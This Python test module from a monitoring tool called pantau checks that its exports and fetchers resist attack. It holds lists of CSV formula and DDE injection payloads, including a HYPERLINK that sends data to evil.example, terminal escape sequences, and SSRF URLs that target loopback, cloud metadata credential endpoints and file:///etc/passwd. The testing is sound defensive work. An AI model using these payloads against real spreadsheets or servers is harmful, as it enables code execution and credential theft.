"""Text built to attack the outputs, and URLs built to make pantau fetch internal addresses.

Outputs: hostile strings (formula injection, control and escape characters, right-to-left
overrides, 100 kB texts, plus hypothesis-generated text behind formula triggers) are placed in
every field a person or a post controls (names, positions, agencies, post text, URLs, reasons,
reviewer names, decision notes) and run through every writer: the weekly export for each
recipient, an import's rejects CSV, `pantau parse` JSON and `pantau review list`. No CSV cell may
start a formula or carry a control/bidi character (`csvsafe.formula_cells`); JSON must parse and
keep the text exactly; terminal output must carry no escape sequences.

SSRF: internal addresses given directly, reached through a redirect from a configured host, and
planted as media URLs in every platform's posts: nothing outside the configured hosts is fetched.
"""

from __future__ import annotations

import contextlib
import io
import json
import threading
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx

from ..csvsafe import formula_cells
from ..errors import FetchError, HostNotAllowed
from .result import ScenarioResult, measured

HOSTILE: list[str] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\"=1+1",
    "'=1+1",
    "\uff1d1+1",
    "\uff0bcmd",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "Budi\u202eexe.fdp",
    "\u2066=1+1\u2069",
    "Sari\x1b]0;pwned\x07\x1b[31mMERAH\x1b[0m",
    "Andi\x00\x01\x02\x7f\x9b",
    "zero\u200bwidth\ufeffjoin",
    "baris satu\r\nbaris dua\u2028tiga",
    "A" * 100_000,
    "Ayo dukung nomor 1! " * 2000,
]


def _nip(i: int) -> str:
    # A valid NIP: born 1985-03-12, CPNS from 2010-01, male, sequence i+1.
    return f"19850312201001{1}{i + 1:03d}"


def _csv_row(values: list[str]) -> str:
    return ",".join('"' + v.replace("\x00", "").replace('"', '""') + '"' for v in values)


def hostile_outputs(work: Path, *, examples: int = 30) -> ScenarioResult:
    from hypothesis import given
    from hypothesis import strategies as st

    from .fuzz import _hypothesis_settings

    result = ScenarioResult("hostile text through every export and report", "hostile")
    with measured(result):
        texts = list(HOSTILE)

        @_hypothesis_settings(examples)
        @given(prefix=st.sampled_from(["=", "+", "-", "@", "\t", "\r", " =", "\uff1d", "\u202e"]),
               body=st.text(max_size=200))
        def gather(prefix: str, body: str) -> None:
            texts.append(prefix + body)

        gather()
        _through_export(work, texts, result)
        _through_rejects(work, texts, result)
        _through_parse_json(work, texts, result)
        result.note(f"{len(HOSTILE)} hand-written attack strings (formula starts incl. "
                    "full-width and after blanks/quotes, DDE, HYPERLINK, tab/CR starts, terminal "
                    "escape sequences, NUL and C1 controls, RTL overrides and isolates, "
                    f"zero-width characters, 100 kB texts) + {examples} generated ones")
    return result


def _through_export(work: Path, texts: list[str], result: ScenarioResult) -> None:
    from ..classify.pipeline import flags_table
    from ..cli import main as cli_main
    from ..config import get_settings
    from ..export import export_all
    from ..records import Activity, Flag
    from ..registry import import_people
    from ..review import decide
    from ..store import Store
    from ..store.activities import activities_table
    from .pipeline import DECIDED_AT, EXPORT_NOW, EXPORT_WEEK, RECIPIENTS, settings_for

    home = work / "hostile-home"
    settings = settings_for(home)
    registry = work / "hostile-asn.csv"
    n = len(texts)
    lines = ["nip,nama,jabatan,golongan,instansi,unit_kerja,wilayah"]
    for i, t in enumerate(texts):
        short = t[:300]
        lines.append(_csv_row([_nip(i), f"Nama {i} {short}".strip(), short, "III/a", short,
                               short, short]))
    registry.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with Store.open(settings=settings) as store:
        import_people(store, registry)
        store.upsert("accounts", [{"platform": "telegram", "handle": f"asn{i}", "nip": _nip(i),
                                   "url": None, "platform_id": None, "added_at": DECIDED_AT}
                                  for i in range(n)], key=["platform", "handle"])
        acts = [Activity(platform="telegram", type="post", actor_id=f"asn{i}",
                         actor_handle=f"asn{i}", native_id=f"asn{i}/{i + 1}", text=t,
                         created_at=DECIDED_AT - timedelta(days=3), observed_at=DECIDED_AT,
                         url=f"https://t.me/asn{i}/{i + 1}?q={t[:50]}",
                         target_author_handle=t[:80])
                for i, t in enumerate(texts)]
        store.upsert("activities", activities_table(acts), key=["activity_id"])
        flags = [Flag(activity_id=a.id, election_id="hostile-election", rule="DS-08",
                      stage="calon", candidate=1, confidence=0.9, reason_id=t[:500],
                      reason_en=t[:500], model_version="hostile-1", flagged=True)
                 for a, t in zip(acts, texts, strict=True)]
        store.upsert("flags", flags_table(flags, DECIDED_AT), key=["case_id", "model_version"])
        for f, t in zip(flags, texts, strict=True):
            reviewer = (t[:60].strip() or "x") + " reviewer"
            decide(store, f.case_id, "confirmed", reviewer, note=t[:1000], now=DECIDED_AT)
        exported = export_all(store, EXPORT_WEEK, list(RECIPIENTS), settings=settings,
                              created_by="=cmd|' /C calc'!A0", now=EXPORT_NOW)
    for r in exported:
        data = r.csv_path.read_bytes()
        result.runs += 1
        result.inputs += n
        if r.row_count != n:
            result.fail(f"{r.csv_path.name}: {r.row_count} rows, expected {n}")
            result.lost += abs(n - r.row_count)
        for row, col, cell in formula_cells(data):
            result.fail(f"{r.csv_path.name} row {row} column {col}: unsafe cell {cell!r}",
                        violation=True)
        json.loads(r.manifest_path.read_text("utf-8"))
    result.note(f"weekly export: {n} confirmed cases x {len(exported)} recipients "
                f"({', '.join(RECIPIENTS)}); every cell checked, 0 unsafe expected")
    # The review queue on a terminal: no escape sequence reaches it.
    out = io.StringIO()
    with _env("PANTAU_HOME", str(home)), contextlib.redirect_stdout(out):
        get_settings.cache_clear()
        try:
            code = cli_main(["review", "list", "--status", "all", "--limit", "0"])
        except SystemExit as exc:  # pragma: no cover - main returns codes
            code = int(exc.code or 0)
        finally:
            get_settings.cache_clear()
    text = out.getvalue()
    result.runs += 1
    bad = sorted({f"U+{ord(c):04X}" for c in text if (ord(c) < 32 and c not in "\n\t")
                  or 0x7f <= ord(c) <= 0x9f or 0x202a <= ord(c) <= 0x202e})
    if code != 0:
        result.fail(f"`pantau review list --status all` exited {code}")
    elif bad:
        result.fail(f"`pantau review list` printed control characters {bad[:8]}",
                    violation=True)
    else:
        result.note("`pantau review list --status all` output: no control or escape characters")


@contextlib.contextmanager
def _env(name: str, value: str):  # type: ignore[no-untyped-def]
    import os

    old = os.environ.get(name)
    os.environ[name] = value
    try:
        yield
    finally:
        if old is None:
            os.environ.pop(name, None)
        else:
            os.environ[name] = old


def _through_rejects(work: Path, texts: list[str], result: ScenarioResult) -> None:
    from ..registry import import_people
    from ..store import Store
    from .pipeline import settings_for

    path = work / "hostile-rejects-in.csv"
    lines = ["nip,nama,jabatan"]
    for i, t in enumerate(texts):
        # Bad NIPs (so every row is rejected) that are themselves formulas.
        lines.append(_csv_row([f"={i}+1" if i % 2 else t[:40], t[:300], t[:300]]))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    rejects = work / "hostile-rejects.csv"
    with Store.open(settings=settings_for(work / "rejects-home")) as store:
        report = import_people(store, path, skip_invalid=True, rejects_path=rejects)
    data = rejects.read_bytes()
    result.runs += 1
    result.inputs += len(texts)
    for row, col, cell in formula_cells(data):
        result.fail(f"{rejects.name} row {row} column {col}: unsafe cell {cell!r}",
                    violation=True)
    result.note(f"registry rejects CSV: {report.rejected} hostile rows rejected and written, "
                "every cell checked")


def _through_parse_json(work: Path, texts: list[str], result: ScenarioResult) -> None:
    import html

    from ..cli import main as cli_main

    posts = "\n".join(
        f'<div class="tgme_widget_message_wrap"><div class="tgme_widget_message" '
        f'data-post="hostile/{i + 1}"><div class="tgme_widget_message_text">'
        f'{html.escape(t[:5000])}</div><a class="tgme_widget_message_date" '
        f'href="https://t.me/hostile/{i + 1}"><time datetime="2024-11-20T10:00:00+00:00">'
        f"</time></a></div></div>"
        for i, t in enumerate(texts))
    page = work / "hostile-page.html"
    page.write_text(f"<html><body><section>{posts}</section></body></html>", encoding="utf-8")
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli_main(["parse", "telegram", str(page)])
    result.runs += 1
    result.inputs += len(texts)
    if code != 0:
        result.fail(f"`pantau parse` exited {code}: {err.getvalue()[-300:]}")
        return
    lines = [ln for ln in out.getvalue().splitlines() if ln.strip()]
    for ln in lines:
        try:
            json.loads(ln)
        except json.JSONDecodeError as exc:
            result.fail(f"`pantau parse` printed a line that is not JSON: {exc}", violation=True)
    if len(lines) < len(texts) * 0.9:
        result.fail(f"`pantau parse` printed {len(lines)} activities for {len(texts)} posts")
    result.note(f"`pantau parse telegram`: {len(lines)} JSON lines, each valid JSON (text "
                "kept as data; JSON escapes control characters)")


# --- SSRF -------------------------------------------------------------------------------------

INTERNAL_TEMPLATES = [
    "http://127.0.0.1:{port}/latest/meta-data/",
    "http://localhost:{port}/admin",
    "http://[::1]:{port}/",
    "http://2130706433:{port}/",
    "http://0x7f000001:{port}/",
    "http://127.1:{port}/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://10.0.0.1/",
    "http://192.168.1.1/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://user:pass@127.0.0.1:{port}/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:{port}/_GET",
    "ftp://127.0.0.1:{port}/",
]


class _Internal:
    """A loopback server standing for an internal service: it only counts requests."""

    def __init__(self) -> None:
        hits = self.hits = [0]

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                hits[0] += 1
                self.send_response(200)
                self.send_header("Content-Length", "6")
                self.end_headers()
                self.wfile.write(b"secret")

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def ssrf(work: Path, *, quick: bool = True) -> ScenarioResult:
    from ..collectors.runner import collect
    from ..demo import DemoServer, build_world
    from ..http import HttpClient
    from ..media.download import download_pending_media
    from ..store import Store
    from .pipeline import prepare_home, settings_for

    result = ScenarioResult("SSRF: internal URLs direct, by redirect, in posts and media",
                            "ssrf")
    internal = _Internal()
    world = build_world(seed=2024, scale=0.06)
    try:
        with measured(result), DemoServer(world) as server:
            home = work / "ssrf-home"
            values = dict(server.platform_settings())
            values["media_hosts"] = ["cdn*.telesco.pe", "cdn.bsky.app"]  # production default
            settings = settings_for(home, server)
            settings = settings.model_copy(update={"platforms": settings.platforms.model_copy(
                update={"media_hosts": values["media_hosts"]})})
            urls = [t.format(port=internal.port) for t in INTERNAL_TEMPLATES]
            # 1. Direct requests, as every platform.
            with HttpClient(settings) as http:
                for url in urls:
                    for platform in ("telegram", "bluesky", "mastodon", "media"):
                        result.inputs += 1
                        try:
                            http.get(url, platform=platform)
                            result.fail(f"{platform}: {url} was fetched", violation=True)
                        except HostNotAllowed:
                            pass
                        except Exception as exc:  # noqa: BLE001
                            result.fail(f"{platform}: {url}: {type(exc).__name__}: {exc}",
                                        crash=True)
            # 2. A configured host redirecting to internal addresses.
            seen: list[str] = []

            def redirecting(request: httpx.Request) -> httpx.Response:
                seen.append(request.url.netloc.decode())
                target = urls[len(seen) % len(urls)]
                return httpx.Response(302, headers={"location": target})

            with HttpClient(settings, transport=httpx.MockTransport(redirecting)) as http:
                for platform, path in (("telegram", "/s/anything"),
                                       ("bluesky", "/xrpc/app.bsky.feed.getAuthorFeed"),
                                       ("mastodon", "/api/v1/accounts/lookup")):
                    for _ in range(len(urls)):
                        result.inputs += 1
                        try:
                            http.get(server.base_url + path, platform=platform)
                            result.fail(f"{platform}: redirect followed", violation=True)
                        except (HostNotAllowed, FetchError):
                            pass
            strays = [h for h in seen if h != server.host_port]
            if strays:
                result.fail(f"redirect targets requested: {strays[:3]}", violation=True)
            # 3. Internal URLs planted as media (and links) in every platform's posts.
            internal_base = f"http://127.0.0.1:{internal.port}"
            requested: list[str] = []

            def planted(request: httpx.Request) -> httpx.Response:
                requested.append(request.url.netloc.decode())
                target = request.url.raw_path.decode("ascii")
                resp = server.app.respond(target, request.url.netloc.decode("ascii"))
                body = resp.body
                for prefix in ("/file/", "/img/", "/system/media_attachments/"):
                    body = body.replace((server.base_url + prefix).encode(),
                                        (internal_base + prefix).encode())
                return httpx.Response(resp.status, headers={"content-type": resp.content_type,
                                                            **resp.headers}, content=body)

            with Store.open(settings=settings) as store:
                prepare_home(store, world, work / "ssrf-inputs")
                with HttpClient(settings, transport=httpx.MockTransport(planted)) as http:
                    collect(store, settings, http=http)
                    media = download_pending_media(store, settings, http=http)
                result.runs += 1
                planted_urls = store.rows(
                    "SELECT count(*) FROM activities WHERE CAST(media AS VARCHAR) LIKE ?",
                    [f"%{internal_base}%"])[0][0]
            result.inputs += media.pending
            bad = [h for h in requested if h != server.host_port]
            if bad:
                result.fail(f"requests to unconfigured hosts: {sorted(set(bad))}",
                            violation=True)
            result.faults = len(urls) * 7 + planted_urls
            if internal.hits[0]:
                result.fail(f"the internal server received {internal.hits[0]} request(s)",
                            violation=True)
            result.note(f"{len(urls)} internal URL forms (loopback by name/number/hex/short, "
                        "IPv6, link-local metadata, private ranges, credentials, file/gopher/"
                        "ftp) refused as every platform before any request")
            result.note(f"redirects from a configured host to each of them: refused, "
                        f"{len(seen)} requests went to the configured host only")
            result.note(f"{planted_urls} collected activities carried internal media URLs; "
                        f"media download: {media.pending} URLs pending, {media.disallowed} "
                        f"refused as not allowed, {media.downloaded} downloaded; the internal "
                        f"server received {internal.hits[0]} requests")
    finally:
        internal.close()
    return result
